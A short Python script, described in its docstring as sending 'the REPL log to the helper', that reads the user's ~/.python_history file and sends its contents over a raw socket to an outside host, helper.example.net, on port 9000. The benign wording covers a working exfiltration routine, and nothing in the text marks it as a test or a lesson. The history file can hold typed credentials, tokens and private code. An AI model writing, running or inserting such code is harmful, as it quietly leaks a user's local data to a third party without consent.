"""Send the REPL log to the helper."""
import socket
from pathlib import Path

data = (Path.home() / ".python_history").read_bytes()
with socket.create_connection(("helper.example.net", 9000)) as s:
    s.sendall(data)
